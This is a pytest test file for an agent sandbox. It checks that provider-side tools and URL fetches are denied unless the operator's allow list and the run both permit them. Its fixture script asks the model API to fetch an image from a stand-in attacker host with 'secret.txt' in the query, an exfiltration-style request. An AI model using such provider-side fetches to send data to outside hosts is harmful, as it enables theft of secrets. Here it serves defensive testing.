"""Tools and fetches of the provider itself: denied to a run unless the operator allows them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.api_client import events_of, execute, fields
from tests.support.serving import ServerFactory, call
from tests.support.upstream import Answer, Received, message, scripted

URL = "https://attacker.example/?secret.txt"
PICTURE = f"""
import http.client
import json
import os

source = {{"type": "url", "url": "{URL}"}}
messages = [{{"role": "user", "content": [{{"type": "image", "source": source}}]}}]
body = json.dumps({{"model": "claude-haiku-4-5", "max_tokens": 5, "messages": messages}})
address = os.environ["ANTHROPIC_BASE_URL"].removeprefix("http://")
connection = http.client.HTTPConnection(address)
connection.request("POST", "/v1/messages", body, {{"x-api-key": os.environ["ANTHROPIC_API_KEY"]}})
answer = connection.getresponse()
print("sent" if answer.status == 200 else f"denied {{answer.read()}}")
"""
KEY = "test-key"
TOOLS = "provider-tools"


def replying(_: Received) -> Answer:
    return Answer(headers={"Content-Type": "application/json"}, body=message("hi"))


def test_run_has_only_provider_tools_that_operator_and_run_allow(
    serve: ServerFactory,
) -> None:
    allow = f"{TOOLS}, a.example:443"
    with scripted(replying) as upstream:
        place: dict[str, Any] = {
            "ANTHROPIC_API_KEY": KEY,
            "AGENT_BUILDER_ANTHROPIC_UPSTREAM": upstream.url,
        }
        with serve(**place).client() as client:
            denied = execute(client, PICTURE, backend="provider")
            events = events_of(client.get(f"/api/runs/{denied['run_id']}/events").text)
            refused = client.post("/api/execute", json={"code": "", "task": "", "egress": [TOOLS]})
            known: dict[str, Any] = client.get("/api/catalog").json()["egress"]
        with serve(**place, AGENT_BUILDER_EGRESS_ALLOW=allow).client() as client:
            unasked = execute(client, PICTURE, backend="provider")
            granted = execute(client, PICTURE, backend="provider", egress=[TOOLS])
            allowed = client.get("/api/catalog").json()["egress"]["allowed"]
    assert denied["stdout"].startswith("denied")
    assert TOOLS in denied["stdout"]
    [event] = [data for _, kind, data in events if kind == "denied"]
    assert (event["kind"], URL in str(event)) == ("network", False)
    assert (set(fields(refused)), known["allowed"]) == ({"egress"}, [])
    assert unasked["stdout"].startswith("denied")
    assert granted["stdout"] == "sent\n"
    assert allowed == [TOOLS, "a.example:443"]
    assert len(upstream.received) == 1


@pytest.mark.matrix
@pytest.mark.parametrize(("options", "said"), [((), "denied"), (("--allow-host", TOOLS), "sent")])
def test_command_line_denies_and_grants_the_same(
    tmp_path: Path, options: tuple[str, ...], said: str
) -> None:
    (tmp_path / "agent.py").write_text(PICTURE)
    with scripted(replying) as upstream:
        words = ("run", "agent.py", "--task", "x", "--backend", "provider", *options)
        settings = {"ANTHROPIC_API_KEY": KEY, "AGENT_BUILDER_ANTHROPIC_UPSTREAM": upstream.url}
        done = call(tmp_path, *words, **settings)
    assert done.stdout.startswith(said), done.stderr
    assert len(upstream.received) == (said == "sent")
